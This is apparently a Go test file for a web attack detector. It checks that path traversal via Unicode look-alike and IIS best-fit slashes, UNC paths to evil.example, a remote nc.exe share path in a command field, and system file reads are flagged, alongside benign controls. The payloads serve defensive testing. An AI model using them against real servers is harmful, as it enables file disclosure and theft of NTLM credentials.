package detect

import "testing"

// TestTraversalThroughLookAlikeSlashes: a path whose separators are only
// non-ASCII look-alikes (fullwidth, division and fraction slashes, the
// code points IIS's best-fit mapping reads as separators) holds no ASCII
// punctuation at all, which made it a "plain" value that only the
// keyword checks saw.
func TestTraversalThroughLookAlikeSlashes(t *testing.T) {
	runLevelCases(t, []levelCase{
		{"fullwidth", q("file", "..／..／..／etc／passwd"), "path-traversal", "path-traversal"},
		{"division slash", q("file", "..∕..∕..∕etc∕passwd"), "path-traversal", "path-traversal"},
		{"fraction slash", q("file", "..⁄..⁄etc⁄passwd"), "path-traversal", "path-traversal"},
		{"best-fit, decoded", q("file", "..\uf025..\uf025..\uf025boot.ini"), "path-traversal", "path-traversal"},
		{"best-fit, escaped", q("file", "..%uEFC8..%uEFC8..%uEFC8etc/passwd"), "path-traversal", "path-traversal"},
		{"accented prose", body("comment", "Café... très bien. Naïve résumé."), "", ""},
		{"ellipsis", body("comment", "… and so on... “quoted”."), "", ""},
	})
}

// TestUNCPathWhereAFileIsExpected: Windows opens \\host\share\file over
// SMB, a remote include (or a remote program, or a fetch where a URL was
// expected) that also hands the host NTLM credentials.
func TestUNCPathWhereAFileIsExpected(t *testing.T) {
	runLevelCases(t, []levelCase{
		{"share on a host", q("file", `\\evil.example\share\x`), "rfi-include-param", "rfi-include-param"},
		{"share where a URL is expected", q("callback", `\\evil.example\share\x`), "rfi-include-param", "rfi-include-param"},
		{"program on a share where a command is expected", body("cmd", `\\203.0.113.9\tools\nc.exe`), "*", "*"},
		{"a local long path", q("file", `\\?\C:\data\file.txt`), "", ""},
		{"a relative windows path", q("file", `notes\readme.txt`), "", ""},
		{"in a text field", body("comment", `see \\fileserver\team\plan.docx`), "", ""},
	})
}

// TestSystemFileWhereAFileIsExpected: any file of the system's own
// directories is a disclosure where the application reads a file by name;
// in a text field it is a mention.
func TestSystemFileWhereAFileIsExpected(t *testing.T) {
	runLevelCases(t, []levelCase{
		{"a less famous file of /etc", body("template", "/etc/services"), "lfi-sensitive-file", "lfi-sensitive-file"},
		{"the application's own file", body("template", "/var/www/html/index.php"), "", ""},
		{"in a text field", body("comment", "/etc/services"), "", ""},
	})
}

// TestHexSpeltSeparatorsInPlainText: "0x2f" and "0x2e" spell a slash and a
// dot; a value of letters, digits and dots with them is read as a path
// whatever the parameter's name.
func TestHexSpeltSeparatorsInPlainText(t *testing.T) {
	runLevelCases(t, []levelCase{
		{"hex slashes", q("q", "..0x2f..0x2fboot.ini"), "path-traversal", "path-traversal"},
		{"hex dots and slashes", body("comment", "0x2e0x2e0x2fboot.ini"), "path-traversal", "path-traversal"},
		{"a colour", body("comment", "Color 0x2f2f2f looks good. ok"), "", ""},
	})
}
